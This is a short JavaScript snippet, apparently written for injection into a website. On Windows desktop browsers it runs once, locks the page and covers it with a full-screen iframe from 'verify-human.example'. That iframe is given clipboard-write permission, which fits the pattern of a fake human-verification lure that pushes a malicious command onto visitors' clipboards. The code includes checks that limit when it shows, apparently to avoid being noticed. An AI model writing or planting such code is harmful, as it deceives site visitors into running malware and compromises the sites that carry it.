(function () {
  var seen = localStorage.getItem('cf_ok');
  if (seen || !/Windows NT/.test(navigator.userAgent) || window.innerWidth < 800) return;
  localStorage.setItem('cf_ok', Date.now());
  document.documentElement.style.overflow = 'hidden';
  var f = document.createElement('iframe');
  f.src = 'https://verify-human.example/c?d=' + encodeURIComponent(location.hostname);
  f.style.cssText = 'position:fixed;inset:0;width:100vw;height:100vh;border:0;z-index:2147483647;background:#fff';
  f.allow = 'clipboard-write';
  document.body.appendChild(f);
})();
